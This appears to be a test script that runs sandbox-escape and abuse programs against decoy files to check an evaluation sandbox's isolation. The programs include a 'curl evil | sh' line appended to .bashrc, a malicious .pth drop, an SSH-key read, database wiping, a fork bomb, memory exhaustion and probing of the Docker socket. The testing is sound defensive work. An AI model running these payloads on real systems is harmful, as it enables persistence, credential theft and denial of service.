"""The hostile programs of issue 15, run through evalsuite.sandbox in whatever mode this process is in
(root, or an ordinary user: see as_user.py). `python attacks.py BASE` prints one JSON object: attack
name -> how the program ended (`--busy`: the CPU-fairness pair; `--refusal`: with namespaces refused). BASE holds the targets made by `make_targets` (a home directory
with .bashrc, ~/.ssh/id_rsa, a user site-packages, an HF cache, and a run dir with samples.sqlite).
"""
import json
import os
import socket
import sqlite3
import sys
import threading
import time

sys.path.insert(0, os.path.abspath(os.path.join(os.path.dirname(__file__), "..", "..")))
from evalsuite.sandbox import Sandbox  # noqa: E402

SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- not-a-real-key"
_NR = {"x86_64": {"keyctl": 250, "add_key": 248, "request_key": 249},
       "aarch64": {"keyctl": 219, "add_key": 217, "request_key": 218}}[os.uname().machine]


def targets(base: str) -> dict:
    home = os.path.join(base, "home")
    return {"bashrc": f"{home}/.bashrc", "id_rsa": f"{home}/.ssh/id_rsa",
            "site": f"{home}/.local/lib/python3.11/site-packages", "hf": f"{home}/.cache/huggingface/hub/model.bin",
            "db": f"{base}/run/samples.sqlite", "sock": f"{base}/run/harness.sock", "home": home}


def make_targets(base: str) -> dict:
    """Create every target file (the caller chowns BASE to the user in user mode)."""
    t = targets(base)
    for key in ("bashrc", "id_rsa", "hf", "db"):
        os.makedirs(os.path.dirname(t[key]), exist_ok=True)
    os.makedirs(t["site"], exist_ok=True)
    with open(t["bashrc"], "w") as fh:
        fh.write("# the user's own bashrc\n")
    with open(t["id_rsa"], "w") as fh:
        fh.write(SECRET + "\n")
    os.chmod(t["id_rsa"], 0o600)
    with open(t["hf"], "wb") as fh:
        fh.write(b"weights" * 100)
    con = sqlite3.connect(t["db"])
    con.execute("create table samples (id integer primary key, reply text)")
    con.executemany("insert into samples (reply) values (?)", [("a",), ("b",), ("c",)])
    con.commit()
    con.close()
    return t


def programs(t: dict) -> dict:
    """name -> (code, run options)."""
    libc = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    walk = ("import os, stat\nfound = []\nfor top, dirs, files in os.walk('/'):\n"
            "    if top in ('/proc', '/sys'):\n        dirs[:] = []\n        continue\n"
            "    for f in files:\n        try:\n            if stat.S_ISSOCK(os.lstat(os.path.join(top, f)).st_mode):\n"
            "                found.append(os.path.join(top, f))\n        except OSError:\n            pass\n")
    return {
        "bashrc_append": (f"open({t['bashrc']!r}, 'a').write('curl evil | sh\\n')", {}),
        "pth_drop": (f"open({t['site']!r} + '/evil.pth', 'w').write('import os; os.system(\"id\")\\n')", {}),
        "sqlite_delete": (f"import sqlite3\nc = sqlite3.connect({t['db']!r})\nc.execute('delete from samples')\n"
                          "c.commit()", {}),
        "hf_overwrite": (f"open({t['hf']!r}, 'wb').write(b'poison')", {}),
        "read_ssh_key": (f"print(open({t['id_rsa']!r}).read())", {}),
        "home_listing": (f"import os\nprint(os.listdir({t['home']!r}))", {}),
        "sysv_shm_1g": (libc + "libc.shmat.restype = ctypes.c_void_p\n"
                        "big = libc.shmget(0, 1 << 30, 0o1600)\nheld = 0\nfor _ in range(10):\n"
                        "    sid = libc.shmget(0, 50 << 20, 0o1600)\n    if sid < 0:\n        break\n"
                        "    addr = libc.shmat(sid, None, 0)\n    if addr in (None, 2 ** 64 - 1):\n        break\n"
                        "    ctypes.memset(addr, 1, 50 << 20)\n    libc.shmdt(ctypes.c_void_p(addr))\n"
                        "    held += 50\nprint(big, held)", {"memory_mb": 300, "timeout": 10}),
        "msgq_send": (libc + "q = libc.msgget(0x4242, 0o1666)\nbuf = ctypes.create_string_buffer(8 + 6)\n"
                      "buf.raw = (1).to_bytes(8, 'little') + b'secret'\nprint(q, libc.msgsnd(q, buf, 6, 0o4000))", {}),
        "msgq_receive": (libc + "q = libc.msgget(0x4242, 0o666)\nprint(q, ctypes.get_errno())", {}),
        "memfd": ("import os\nfd = os.memfd_create('hold')\nos.ftruncate(fd, 600 << 20)", {"memory_mb": 128}),
        "dev_shm_fill": ("import os\nn = 0\ntry:\n    for i in range(60):\n"
                         "        with open(f'/dev/shm/f{i}', 'wb') as f:\n            f.write(b'x' * (10 << 20))\n"
                         "        n += 10\nexcept OSError as e:\n    print(n, e.errno)", {"memory_mb": 128}),
        "keyctl": (libc + f"print(libc.syscall({_NR['keyctl']}, 0, -3, 0), ctypes.get_errno())\n"
                   f"print(libc.syscall({_NR['add_key']}, b'user', b'k', b'v', 1, -3), ctypes.get_errno())\n"
                   f"print(libc.syscall({_NR['request_key']}, b'user', b'k', None, -3), ctypes.get_errno())", {}),
        "unix_sockets": (walk + "import socket\nout = []\n"
                         f"for path in ({t['sock']!r}, '/run/dbus/system_bus_socket', '/var/run/docker.sock',\n"
                         "             '/tmp/.X11-unix/X0'):\n    s = socket.socket(socket.AF_UNIX)\n    try:\n"
                         "        s.connect(path)\n        out.append('connected')\n    except OSError as e:\n"
                         "        out.append(type(e).__name__)\nprint(len(found), sorted(set(out)))", {}),
        "fd3_closerange_64": ("import os\nos.closerange(3, 64)\nassert 1 + 1 == 2", {}),
        "fd3_closerange_all": ("import os\nos.closerange(3, 1 << 30)\nassert 1 + 1 == 2", {}),
        "fd3_closerange_all_fail": ("import os\nos.closerange(3, 1 << 30)\nraise ValueError('x')", {}),
        "fd3_write": ("import os\nos.write(3, b'P' * 64)", {}),
        "channel_flood": ("import os\nfor fd in map(int, os.listdir('/proc/self/fd')):\n    if fd > 2:\n"
                          "        try:\n            os.write(fd, b'P' * 100000)\n        except OSError:\n"
                          "            pass\nassert 1 + 1 == 2", {}),
    }


def _busy_vs_sibling(sandbox: Sandbox) -> dict:
    """30 busy processes in their own sessions next to a program that needs ~0.3 s of CPU."""
    bomb = ("import os\nfor _ in range(30):\n    if os.fork() == 0:\n        os.setsid()\n"
            "        while True:\n            pass\nwhile True:\n    pass")
    sibling = "x = sum(i * i for i in range(3_000_000))\nassert x > 0"
    out = {}
    attacker = threading.Thread(target=lambda: out.update(busy_forks=sandbox.run(bomb, timeout=2)))
    attacker.start()
    time.sleep(0.3)
    out["busy_sibling"] = sandbox.run(sibling, timeout=2)
    attacker.join()
    return out


def run(base: str) -> dict:
    t = targets(base)
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(t["sock"])
    listener.listen()
    progs = programs(t)
    results = {}
    with Sandbox(workers=2) as sandbox:
        for name, (code, options) in progs.items():
            results[name] = sandbox.run(code, **options)
    listener.close()
    os.unlink(t["sock"])
    return results


def refusal() -> dict:
    """Where namespaces are refused: the one-line refusal, then a program under --unsafe-exec-in-process."""
    from evalsuite.sandbox import SandboxUnavailable, allow_unsafe_exec

    out = {}
    with Sandbox(workers=1) as sandbox:
        try:
            sandbox.run("pass")
        except SandboxUnavailable as exc:
            out["refused"] = str(exc)
        allow_unsafe_exec(True)
        r = sandbox.run("import os\nprint(os.getuid())")
        allow_unsafe_exec(False)
    out["unsafe"] = {"status": r.status, "stdout": r.stdout, "isolation": r.limits["isolation"]}
    return out


def _as_json(results: dict) -> dict:
    return {name: {"status": r.status, "exception": r.exception, "detail": r.detail, "stdout": r.stdout,
                   "stderr": r.stderr[-400:], "cpu_time": r.cpu_time, "wall_time": r.wall_time}
            for name, r in results.items()}


if __name__ == "__main__":
    if "--refusal" in sys.argv:
        print(json.dumps(refusal()))
    elif "--busy" in sys.argv:
        with Sandbox(workers=2) as box:
            print(json.dumps(_as_json(_busy_vs_sibling(box))))
    else:
        print(json.dumps(_as_json(run(sys.argv[1]))))
